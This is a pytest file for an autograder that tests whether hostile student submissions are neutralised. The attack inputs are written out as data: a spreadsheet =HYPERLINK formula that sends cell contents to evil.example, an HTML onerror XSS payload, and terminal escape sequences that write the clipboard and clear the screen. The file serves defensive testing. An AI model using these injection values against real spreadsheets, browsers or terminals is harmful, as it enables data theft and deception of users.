"""Issue 17, items 6–8: what the trusted side writes and shows, attacked through students' words and names.

One small class, graded by one `grade batch` in the jail (a module fixture, shared by every test):
an honest student; attackers whose exercise_3.py (tests/attacks/trusted/output_*.py) raises an
exception whose class is named by 31 MB of text, forges a reply with a 30 MB message (skipping the
worker's own truncation), or fills its message and printed output with escape sequences, formulas
and a lone surrogate; and students who hand in the honest solution under hostile folder names — the
batch's own file names (``gradebook.sqlite-wal``, ``report.html``, ``export-canvas.csv``, a zip named
like the judges' scratch folder), spreadsheet formulas, HTML, escape sequences, bytes that are not
UTF-8. The class is graded twice (a rerun must complete too), exported for Canvas, Moodle and as
csv, and one attacker is graded by `grade exercise-3 --submission` for the terminal's path.

What must hold: the batch completes with every student recorded (or refused by a clear line), a
rerun too; honest code scores full marks whatever its folder is called, and attackers 0; every text
stored or shown is under the judge's cap and says what was cut; no ESC, C1 or other control character
reaches a terminal; no text cell of grades.csv or an export starts like a formula; feedback.md holds
no raw HTML.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import ROOT
from grader.batch import exports, gradebook
from grader.batch.meter import Meter
from grader.grading import untrusted

GRADE = str(Path(sys.executable).with_name("grade"))
TRUSTED = ROOT / "tests" / "attacks" / "trusted"
SOLUTION = (ROOT / "solutions" / "exercise_3.py").read_text()
LIMITS = ["--timeout", "10", "--memory", "600"]  # no attacker here hangs: a busy machine must not time one out
ATTACKERS = ("output_escapes", "output_forged_huge_message", "output_huge_type_name")
# Folder names that hand in the honest solution: each must be graded as any other student.
NAMED = {
    "sqlite_wal": "gradebook.sqlite-wal",          # sqlite's log beside the store: the batch crashed on every run
    "sqlite_journal": "GRADEBOOK.SQLITE-journal",  # the same, in another case
    "report": "report.html",                       # refused before: the class report's name
    "export": "export-canvas.csv",                 # `grade export` crashed on the folder in its way
    "students": "students",                        # the folder that now holds every student's
    "formula": '=HYPERLINK("http:\\\\evil.example?"&A1,"click")',
    "at": "@SUM(1+1)",
    "number": "-1.5",
    "html": "<img src=x onerror=alert(1)>",
    "escapes": "esc\x1b]0;owned\x07\x1b[2J\u009b31mname\u202e",
}
WORK_ZIP = "work"            # work.zip: unpacked where the judges' scratch folder went, the batch crashed
EMPTY = "\x1b]52;c;ZXZpbA==\x07\nfake line"  # hands in nothing, so the summary names it
NOT_UTF8 = os.fsdecode(b"raw\x9bbyte")       # refused, by a line that says why
HONEST = ("honest", *NAMED.values(), WORK_ZIP)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # what no terminal may get
FORMULA = ("=", "+", "-", "@", "\t", "\r")
CAP = untrusted.TEXT_LIMIT + 200  # a capped text: the limit, and the line that says what was cut


@dataclass
class Graded:
    root: Path
    submissions: Path
    out: Path
    first: subprocess.CompletedProcess
    scores: dict[str, float]
    rerun: subprocess.CompletedProcess
    exports: dict[str, subprocess.CompletedProcess]
    single: subprocess.CompletedProcess


def run(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "GRADER_NO_NAMESPACES"}  # only ever in the jail
    return subprocess.run([GRADE, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=400,
                          errors="surrogateescape")


def rows(out: Path, sql: str, *args) -> list:
    with sqlite3.connect(out / gradebook.STORE_NAME) as conn:
        return conn.execute(sql, args).fetchall()


@pytest.fixture(scope="module")
def graded():
    from grader.isolation import doctor

    found = doctor.available()
    if not found.ok:
        pytest.skip(f"the jail cannot be built here ({found.reason}): attack code only ever runs inside it")
    base = "/var/tmp" if os.access("/var/tmp", os.W_OK | os.X_OK) else None
    root = Path(tempfile.mkdtemp(prefix="grader-outputs-", dir=base))
    root.chmod(0o755)  # pytest's tmp folders are 0700: only the jail keeps attackers out
    try:
        yield _grade(root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _grade(root: Path) -> Graded:
    submissions, out = root / "class", root / "results"
    submissions.mkdir()
    for name in ("honest", *NAMED.values()):
        (submissions / name).mkdir()
        (submissions / name / "exercise_3.py").write_text(SOLUTION)
    with zipfile.ZipFile(submissions / f"{WORK_ZIP}.zip", "w") as zf:
        zf.writestr("exercise_3.py", SOLUTION)
    for stem in ATTACKERS:
        (submissions / stem).mkdir()
        shutil.copy(TRUSTED / f"{stem}.py", submissions / stem / "exercise_3.py")
    (submissions / EMPTY).mkdir()
    (submissions / NOT_UTF8).mkdir()
    (submissions / NOT_UTF8 / "exercise_3.py").write_text(SOLUTION)
    for path in [submissions, *submissions.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    argv = ["batch", str(submissions), "--out", str(out), "--exercise", "exercise-3", "-j", "2", *LIMITS]
    first = run(*argv)
    scores = {s: score for s, (score, _, _) in students(out).items()} if (out / gradebook.STORE_NAME).exists() else {}
    rerun = run(*argv)
    roster = root / "roster.csv"
    roster.write_text("student,name\nhonest,Honest Student\n")
    exports = {"canvas": run("export", str(out), "--format", "canvas"),
               "moodle": run("export", str(out), "--format", "moodle"),
               "csv": run("export", str(out), "--format", "csv"),
               "roster": run("export", str(out), "--format", "canvas", "--roster", str(roster),
                             "--output", str(root / "canvas-roster.csv"))}
    single = run("exercise-3", "--submission", str(submissions / "output_escapes" / "exercise_3.py"), "--device",
                 "cpu")
    return Graded(root, submissions, out, first, scores, rerun, exports, single)


def students(out: Path) -> dict[str, tuple[float, str, str]]:
    """Student → (score, status, reason), from the gradebook."""
    return {s: (score, status, reason) for s, score, status, reason in
            rows(out, "SELECT student, score, status, reason FROM submissions WHERE exercise = 'exercise-3'")}


# ---------------------------------------------------------------- a name is data (item 7)

def test_batch_completes_with_every_student(graded):
    assert graded.first.returncode == 0, graded.first.stderr[-3000:]
    stored = students(graded.out)
    expected = {*HONEST, *ATTACKERS, EMPTY, "raw\\x9bbyte"}
    assert set(stored) == expected


def test_a_rerun_completes_with_the_same_grades(graded):
    assert graded.rerun.returncode == 0, graded.rerun.stderr[-3000:]
    assert graded.rerun.stdout.startswith(f"{len(graded.scores)} students: ")
    assert {s: score for s, (score, _, _) in students(graded.out).items()} == graded.scores


def test_honest_code_scores_full_marks_whatever_its_folder_is_called(graded):
    stored = students(graded.out)
    for name in HONEST:
        assert stored[name][:2] == (10.0, "graded"), (name, stored[name])
        data = json.loads((exports.student_folder(graded.out, name) / "results.json").read_text())
        assert data["score"] == 10, name


def test_the_batch_keeps_its_own_files_apart_from_students(graded):
    top = {p.name for p in graded.out.iterdir()}
    assert top <= {".lock", gradebook.STORE_NAME, f"{gradebook.STORE_NAME}-wal", f"{gradebook.STORE_NAME}-shm",
                   gradebook.GRADES_NAME, gradebook.REPORT_NAME, exports.STUDENTS_NAME,
                   "export-canvas.csv", "export-moodle.csv", "export-csv.csv"}, top
    for kind in ("canvas", "moodle", "csv"):
        assert graded.exports[kind].returncode == 0, graded.exports[kind].stderr
        assert (graded.out / f"export-{kind}.csv").is_file()
    assert (exports.student_folder(graded.out, "export-canvas.csv") / "feedback.md").is_file()


def test_a_name_that_is_not_text_is_refused_by_a_clear_line(graded):
    score, status, reason = students(graded.out)["raw\\x9bbyte"]
    assert (score, status) == (0.0, "error") and "not UTF-8 text" in reason and "rename it" in reason
    assert "raw\\x9bbyte exercise-3: the name of this entry is not UTF-8 text" in graded.first.stdout


# ---------------------------------------------------------------- limits where they are trusted (item 6)

def test_attackers_score_nothing(graded):
    stored = students(graded.out)
    for name in ATTACKERS:
        assert stored[name][0] == 0, name


def test_every_stored_text_is_capped(graded):
    longest = rows(graded.out, "SELECT MAX(LENGTH(feedback)), MAX(LENGTH(evidence)), MAX(LENGTH(title)) FROM checks")
    assert max(longest[0]) <= CAP, longest
    longest = rows(graded.out, "SELECT MAX(LENGTH(reason)), MAX(LENGTH(IFNULL(problem, ''))) FROM submissions")
    assert max(longest[0]) <= CAP, longest
    assert (graded.out / gradebook.STORE_NAME).stat().st_size < 4 << 20
    for name in ATTACKERS:
        for file in ("results.json", "feedback.md"):
            assert (exports.student_folder(graded.out, name) / file).stat().st_size < 400_000, (name, file)


def test_what_was_cut_is_said(graded):
    forged = " ".join(f for f, in rows(graded.out, "SELECT feedback FROM checks WHERE student = ?",
                                       "output_forged_huge_message"))
    assert "(cut: 30 MB in all)" in forged
    named = " ".join(f for f, in rows(graded.out, "SELECT feedback FROM checks WHERE student = ?",
                                      "output_huge_type_name"))
    assert "(cut: 31 MB in all)" in named


def test_text_from_json_and_the_gradebook_is_capped_too():
    from grader.grading.results import CheckResult

    check = CheckResult.from_json({"name": "n", "title": "t" * 50_000, "points": 0, "max_points": 1,
                                   "status": "failed", "hidden": False, "feedback": "x" * (31 << 20) + "\ud800",
                                   "seconds": 0.1, "evidence": "y" * 100_000})
    assert len(check.feedback) <= CAP and "(cut: 31 MB in all)" in check.feedback
    assert len(check.evidence) <= CAP and len(check.title) <= untrusted.LINE_LIMIT + 100
    check.feedback.encode("utf-8")  # the lone surrogate is gone: every writer can write it


def test_the_wire_cuts_long_strings_and_refuses_long_keys():
    from grader.isolation import wire

    decoded = wire.decode(wire.encode({"error": {"message": "BIG " * (8 << 18), "type": "a\ud800"}}))
    assert len(decoded["error"]["message"]) < wire.MAX_STRING + 100
    assert decoded["error"]["message"].endswith("… (cut: 8 MB in all)") and decoded["error"]["type"] == "a?"
    with pytest.raises(wire.WireError):
        wire.decode(wire.encode({"k" * (wire.MAX_KEY + 1): 1}))


# ---------------------------------------------------------------- no injection (item 8)

def test_no_control_character_reaches_a_terminal(graded):
    shown = {"batch": graded.first.stdout + graded.first.stderr, "rerun": graded.rerun.stdout + graded.rerun.stderr,
             "single": graded.single.stdout + graded.single.stderr,
             **{f"export {k}": v.stdout + v.stderr for k, v in graded.exports.items()}}
    for what, text in shown.items():
        assert not CONTROL.search(text), (what, CONTROL.findall(text)[:5])
    # The names and words are there, their escapes shown as text: the instructor sees who and what.
    assert "\\x1b]52;c;ZXZpbA==\\x07\\x0afake line" in graded.first.stdout  # handed in nothing: named
    assert "\\x1b]0;grade: all 40 students 10/10\\x07" in graded.single.stdout
    assert "\\x0d  ✓ 2/2  The step goes downhill" in graded.single.stdout  # a fake line stays in the feedback
    assert "\\x1b]52;c;ZXZpbA==\\x07\\x0afake line" in graded.exports["roster"].stderr  # left out: named


def test_the_progress_line_shows_no_escape():
    seen = []
    Meter(seen.append).tick(NAMED["escapes"] + "\n" + EMPTY, 2, "judges")
    assert not CONTROL.search(seen[0]) and "\n" not in seen[0] and seen[0].startswith("esc\\x1b]0;owned")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_no_text_cell_starts_like_a_formula(graded):
    files = {"grades.csv": (graded.out / gradebook.GRADES_NAME, 1), "canvas": (graded.out / "export-canvas.csv", 5),
             "moodle": (graded.out / "export-moodle.csv", 1), "csv": (graded.out / "export-csv.csv", 1)}
    for what, (path, text_columns) in files.items():
        table = _cells(path)
        for row in table:
            for i, cell in enumerate(row):
                assert not CONTROL.search(cell), (what, cell)
                if i < text_columns or row is table[0]:
                    assert not cell.lstrip(" ").startswith(FORMULA), (what, cell)
                elif cell and cell != "(read only)":
                    float(cell)  # the scores stay numbers, a negative one included
        ids = [row[0] for row in table[1:]]
        assert "'-1.5" in ids and "'@SUM(1+1)" in ids and any(i.startswith("'=HYPERLINK(") for i in ids), what
    assert (graded.out / gradebook.GRADES_NAME).read_bytes() == (graded.out / "export-csv.csv").read_bytes()


def test_csv_cells_are_quoted_only_where_they_are_text():
    assert [untrusted.csv_cell(c) for c in ("=1+1", "+1", "-1.5", "@a", " =x", "\tx", "bob", "a-b")] == [
        "'=1+1", "'+1", "'-1.5", "'@a", "' =x", "\\x09x", "bob", "a-b"]


def test_feedback_md_holds_no_raw_html_or_escape(graded):
    folders = [p for p in (graded.out / exports.STUDENTS_NAME).iterdir() if p.is_dir()]
    assert len(folders) == len(students(graded.out))
    for folder in folders:
        text = (folder / "feedback.md").read_text()
        assert not CONTROL.search(text), folder.name
        prose = re.sub(r"(?ms)^( *)(`{3,})text\n.*?^\1\2$", "", text)  # code blocks show HTML as text
        assert not re.search(r"<[A-Za-z!/?]", prose), (folder.name, prose)
    html = (exports.student_folder(graded.out, NAMED["html"]) / "feedback.md").read_text()
    assert html.startswith("# Feedback for &lt;img src=x onerror=alert(1)&gt;\n")
    formula = (exports.student_folder(graded.out, NAMED["formula"]) / "feedback.md").read_text()
    assert formula.startswith(
        '# Feedback for =HYPERLINK(&quot;http:\\\\\\\\evil.example?&quot;&amp;A1,&quot;click&quot;)')


def test_markdown_escapes_links_code_and_lines():
    assert untrusted.markdown_line("![x](http://e) `a` *b*\n# c") == r"!\[x\](http://e) \`a\` \*b\*\\x0a# c"
    assert untrusted.markdown_code("a``b") == "```a``b```"


def test_the_class_report_links_each_student_to_their_feedback(graded):
    page = (graded.out / gradebook.REPORT_NAME).read_text()
    assert 'href="students/honest/feedback.md"' in page and 'href="students/report.html/feedback.md"' in page
    assert "<img src" not in page
